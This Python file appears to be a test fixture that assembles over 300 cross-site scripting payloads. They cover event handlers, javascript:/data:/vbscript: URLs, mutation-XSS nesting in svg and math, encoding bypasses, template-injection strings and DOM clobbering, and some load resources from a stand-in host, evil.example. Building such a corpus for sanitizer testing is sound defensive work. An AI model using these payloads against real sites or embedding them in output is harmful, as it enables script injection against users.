"""Texts that try to become script: in Markdown, in queries, in answers. Each would set `window.hit`, or load from evil.example."""

HANDLERS = """onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onbeforeunload onblur oncanplay onchange
onclick oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragstart ondrop ondurationchange onended onerror
onfocus onfocusin onformdata ongotpointercapture onhashchange oninput oninvalid onkeydown onload onloadeddata onloadstart onmessage onmousedown
onmouseenter onmouseover onmousewheel onpageshow onpaste onplay onpointerdown onpointerenter onpointerover onpopstate onprogress onreset onresize
onscroll onscrollend onsearch onsecuritypolicyviolation onseeking onselect onselectionchange onselectstart onslotchange onstalled onsubmit onsuspend
ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange onwaiting onwheel""".split()

ELEMENTS = """a abbr address article audio b body button canvas details dialog div embed figure font form frame frameset h1 iframe img input
isindex keygen label link marquee math menu meta object ol p picture portal pre section select source span style summary svg table td textarea track
video xmp""".split()

SCHEMES = [
    "javascript:hit=1",
    "JaVaScRiPt:hit=1",
    " javascript:hit=1",
    "java\tscript:hit=1",
    "java\nscript:hit=1",
    "&#106;avascript:hit=1",
    "&#x6A;avascript:hit=1",
    "javascript&colon;hit=1",
    "javascript&#58;hit=1",
    "\x01javascript:hit=1",
    "javascript\u200b:hit=1",
    "data:text/html,<script>hit=1</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit=1>",
    "vbscript:hit=1",
    "livescript:hit=1",
    "mocha:hit=1",
    "feed:javascript:hit=1",
    "view-source:javascript:hit=1",
    "jar:javascript:hit=1!/",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "filesystem:https://evil.example/x",
    "javascript://evil.example/%0ahit=1",
    "javascript:%68it=1",
    "//evil.example\\@x",
    "\\\\evil.example\\x",
]

BY_HAND = [
    "<script>hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>hit=1</scr</script>ipt>",
    "<script\n>hit=1</script\n>",
    "<script/x>hit=1</script>",
    "<<script>hit=1//<</script>",
    "<script>hit=1",
    "</script><script>hit=1</script>",
    "</title><script>hit=1</script>",
    "</textarea><script>hit=1</script>",
    "</style><script>hit=1</script>",
    "--><script>hit=1</script>",
    "<!--><script>hit=1</script>-->",
    "<![CDATA[<script>hit=1</script>]]>",
    "<?xml version='1.0'?><script>hit=1</script>",
    "<!doctype x [<!entity a '<script>hit=1</script>'>]>&a;",
    '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
    "<template><script>hit=1</script></template>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit=1&gt;">',
    "<svg><style><!--</style><img src=x onerror=hit=1>--></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=hit=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit=1>",
    '<math><annotation-xml encoding="text/html"><script>hit=1</script>',
    "<svg><script>hit=1</script></svg>",
    "<svg><animate onbegin=hit=1 attributeName=x>",
    "<svg><set attributeName=href to=javascript:hit=1>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hit=1>#x">',
    '<svg><foreignObject><iframe srcdoc="<script>hit=1</script>">',
    '<svg><a xlink:href="javascript:hit=1"><text>x</text></a></svg>',
    '<math href="javascript:hit=1">x</math>',
    '<iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.hit=1"></iframe>',
    '<object data="javascript:hit=1"></object>',
    '<embed src="javascript:hit=1">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    '<p style="background:url(//evil.example/x)">',
    '<p style="-moz-binding:url(//evil.example/x)">',
    '<meta http-equiv=refresh content="0;url=javascript:hit=1">',
    "<base href=//evil.example/>",
    "<form action=javascript:hit=1><button>x</button></form>",
    "<button form=x formaction=javascript:hit=1>x</button>",
    "<input autofocus onfocus=hit=1>",
    "<details open ontoggle=hit=1>x</details>",
    "<marquee onstart=hit=1>x</marquee>",
    "<video><source onerror=hit=1></video>",
    "<audio src=x onerror=hit=1>",
    "<img src=//evil.example/x.png>",
    '<img srcset="//evil.example/x.png 1x">',
    "<img src=x:x onerror=hit=1//",
    "<img/src=x/onerror=hit=1>",
    '<img src="x"onerror="hit=1">',
    "<img src=x onerror\n=\nhit=1>",
    "<img src=`x`onerror=hit=1>",
    "<image src=x onerror=hit=1>",
    "<x onclick=hit=1>x</x>",
    "<a href=x onmouseover=hit=1>x</a>",
    "<body onload=hit=1>",
    "<div is=x-y onclick=hit=1>",
    "<p slot=x onclick=hit=1>",
    '"><script>hit=1</script>',
    "'><script>hit=1</script>",
    '" onmouseover="hit=1',
    "' autofocus onfocus='hit=1",
    '"><img src=x onerror=hit=1>',
    "`${hit=1}`",
    "{{constructor.constructor('hit=1')()}}",
    "${hit=1}",
    "{{{hit}}}",
    "<%= hit %>",
    "[[${hit=1}]]",
    "\u2028<script>hit=1</script>",
    "\ufeff<script>hit=1</script>",
    "<script\u00a0>hit=1</script>",
    "\u202e<script>hit=1</script>",
    "<\x00script>hit=1</script>",
    "+ADw-script+AD4-hit=1+ADw-/script+AD4-",
    "%3Cscript%3Ehit=1%3C/script%3E",
    "&lt;script&gt;hit=1&lt;/script&gt;",
    "\\u003cscript\\u003ehit=1",
    '<a href="https://evil.example" target=_blank onclick=hit=1>x</a>',
    "<div id=docgen></div><a id=settings>",
    "<form name=body><input name=append></form>",
    "<img name=getElementById>",
    "<a id=root href=//evil.example/>",
    "<!--/search-results--><script>hit=1</script>",
    "<textarea autofocus onfocus=hit=1></textarea>",
    "<select autofocus onfocus=hit=1></select>",
    "<plaintext><script>hit=1</script>",
    "<div popover id=p onbeforetoggle=hit=1></div><button popovertarget=p>x</button>",
    "<portal src=javascript:hit=1>",
    '<p title="`" onclick=hit=1>`',
]


def markdown(scheme: str) -> list[str]:
    return [f"[x]({scheme})", f"[x](<{scheme}>)"]


ALL = list(
    dict.fromkeys(
        BY_HAND
        + [f"<img src=x {handler}=hit=1>" for handler in HANDLERS]
        + [f"<{name} src=x href=javascript:hit=1 onload=hit=1 onclick=hit=1 style=color:red>x</{name}>" for name in ELEMENTS]
        + [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
        + [link for scheme in SCHEMES for link in markdown(scheme)]
        + [f"![x]({scheme})" for scheme in SCHEMES]
        + [f"<{scheme.strip()}>" for scheme in SCHEMES]
    )
)
assert len(ALL) >= 300, len(ALL)
